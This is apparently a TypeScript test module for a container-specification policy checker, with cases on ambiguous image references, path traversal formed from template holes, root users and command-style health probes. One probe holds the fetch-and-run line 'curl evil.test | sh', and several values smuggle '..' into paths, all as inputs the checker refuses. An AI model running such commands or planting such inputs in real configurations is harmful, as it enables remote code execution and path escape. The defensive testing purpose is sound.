/**
 * What the specification's coverage lets by: refused by `strict`, admitted by `reference`.
 *
 * @module
 */

import type { Plain } from "../vectors/plain.ts";
import type { Case } from "./case.ts";
import { ADMIT, GRANT, IMAGE, probed, refuse, SPEC } from "./workload.ts";

/** A spec that agrees with its grant and is not settled by it, under both profiles. */
function unsettled(
  note: string,
  grant: Plain,
  spec: Plain,
  ...findings: readonly Plain[]
): readonly Case[] {
  const question = { grant: { ...GRANT, ...grant }, spec: { ...SPEC, ...spec } };
  const [first, ...others] = findings;
  return [
    { note, in: question, expect: refuse("L7", first, ...others) },
    {
      note: `${note}, under reference`,
      in: { ...question, coverage: "reference" },
      expect: ADMIT,
    },
  ];
}

function settled(note: string, grant: Plain, spec: Plain): Case {
  return {
    note,
    in: { grant: { ...GRANT, ...grant }, spec: { ...SPEC, ...spec }, coverage: "strict" },
    expect: ADMIT,
  };
}

const uncovered = (path: string) => ({ code: "uncovered", path });
const ambiguous = { code: "image_ambiguous", path: "/image" };
const traversal = (path: string) => ({ code: "hole_traversal", path });

/** An image of other parts, and the grant that has its text. */
function imaged(changes: Plain): [Plain, Plain] {
  const image = { ...IMAGE, ...changes };
  const { registry, repository, tag, digest } = image;
  return [{ image: `${registry}/${repository}:${tag}@${digest}` }, { image }];
}

const images: readonly Case[] = [
  ...unsettled("the edge of the registry moved, the text the same", {}, {
    image: { ...IMAGE, registry: "registry.test/build", repository: "packer" },
  }, ambiguous),
  ...unsettled("no registry, the text the same", { image: `/packer:2.4@${IMAGE.digest}` }, {
    image: { ...IMAGE, registry: "", repository: "packer" },
  }, ambiguous),
  ...unsettled("a digest in the tag", ...imaged({ tag: `2.4@${IMAGE.digest}` }), ambiguous),
  ...unsettled("a tag in the repository", ...imaged({ repository: "build/packer:2.4" }), ambiguous),
  ...unsettled("no digest", ...imaged({ digest: "" }), ambiguous),
  ...unsettled(
    "a digest in upper case",
    ...imaged({ digest: IMAGE.digest.toUpperCase() }),
    ambiguous,
  ),
  ...unsettled("another hash", ...imaged({ digest: `sha512:${"c3".repeat(64)}` }), ambiguous),
  ...unsettled(
    "a registry that no reference would name",
    ...imaged({ registry: "registry" }),
    ambiguous,
  ),
  settled("a registry with a port", ...imaged({ registry: "registry:5000" })),
  settled(
    "the registry of lone names",
    ...imaged({ registry: "docker.io", repository: "library/nginx" }),
  ),
];

const traversals: readonly Case[] = [
  ...unsettled("a template's dot and a hole's", { argv: ["/p/{{a}}.{{b}}"] }, {
    command: ["/p/x../etc"],
  }, traversal("/command/0")),
  ...unsettled("two literals around an empty hole", { workdir: "/p/.{{a}}./x" }, {
    workdir: "/p/../x",
  }, traversal("/workdir")),
  ...unsettled("two holes, one after the other", { entrypoint: ["{{a}}.{{b}}"] }, {
    entrypoint: ["a.."],
  }, traversal("/entrypoint/0")),
  ...unsettled(
    "dots at the end of a text",
    { argv: ["x.{{a}}"] },
    { command: ["x.."] },
    traversal("/command/0"),
  ),
  ...unsettled(
    "each at its place: directory, entrypoint, command",
    {
      workdir: "{{a}}./",
      entrypoint: ["sh", ".{{a}}"],
      argv: [".{{a}}", "a", "{{a}}./"],
    },
    { workdir: "/p../", entrypoint: ["sh", ".."], command: ["..", "a", "x../"] },
    traversal("/workdir"),
    traversal("/entrypoint/1"),
    traversal("/command/0"),
    traversal("/command/2"),
  ),
  settled("a .. that the author wrote", { argv: ["cd ../{{a}}"] }, { command: ["cd ../x"] }),
  settled("a .. of a template without holes", { workdir: "/a/../b" }, { workdir: "/a/../b" }),
  settled("dots that do not meet", { argv: ["{{a}}./{{b}}"] }, { command: ["x./.y"] }),
  settled("a .. within a literal that a hole's dot does not touch", { argv: ["{{a}}/../{{b}}"] }, {
    command: [".x/../y."],
  }),
];

const OTHER_TIER = {
  code: "mismatch",
  field: "tier",
  path: "/tier",
  admitted: "infra",
  found: "tenant",
} as const;

const both: readonly Case[] = [
  {
    note: "findings come after the specification's failures, and the law is the failure's",
    in: { grant: GRANT, spec: { ...SPEC, tier: "tenant", user: "0" } },
    expect: refuse("L3", OTHER_TIER, uncovered("/user")),
  },
  {
    note: "under reference, the failure alone",
    in: { grant: GRANT, spec: { ...SPEC, tier: "tenant", user: "0" }, coverage: "reference" },
    expect: refuse("L3", OTHER_TIER),
  },
  {
    note: "an image that shares another's text and is not the one granted",
    in: { grant: GRANT, spec: { ...SPEC, image: { ...IMAGE, registry: "a/b", tag: "3" } } },
    expect: refuse("L3", {
      code: "mismatch",
      field: "image",
      path: "/image",
      admitted: GRANT.image,
      found: `a/b/build/packer:3@${IMAGE.digest}`,
    }, ambiguous),
  },
  {
    note: "an element without a template has no finding of its own",
    in: {
      grant: { ...GRANT, argv: [".{{a}}"] },
      spec: { ...SPEC, command: ["..", ".."] },
    },
    expect: refuse("L3", {
      code: "mismatch",
      field: "argv",
      path: "/command",
      admitted: [".{{a}}"],
      found: ["..", ".."],
    }),
  },
];

/** What `strict` refuses beside the specification's failures. */
export const strict: readonly Case[] = [
  ...unsettled("a health probe that is a command", {}, {
    healthcheck: probed({ exec: { argv: ["curl evil.test | sh"] } }),
  }, uncovered("/healthcheck/probe/exec")),
  settled("a health probe by HTTP", {}, {
    healthcheck: probed({ http_get: { path: "/", port: 1 } }),
  }),
  settled("a health probe by TCP", {}, { healthcheck: probed({ tcp_connect: { port: 1 } }) }),
  ...["root", "nobody", ""].flatMap((user) =>
    unsettled(`a user: ${JSON.stringify(user)}`, {}, { user }, uncovered("/user"))
  ),
  ...images,
  ...traversals,
  ...unsettled(
    "every kind of finding, in its order",
    {
      image: `a/b:${IMAGE.tag}@`,
      argv: [".{{a}}"],
    },
    {
      image: { ...IMAGE, registry: "a", repository: "b", digest: "" },
      user: "0",
      healthcheck: probed({ exec: { argv: [] } }),
      command: [".."],
    },
    uncovered("/healthcheck/probe/exec"),
    uncovered("/user"),
    ambiguous,
    traversal("/command/0"),
  ),
  ...both,
];
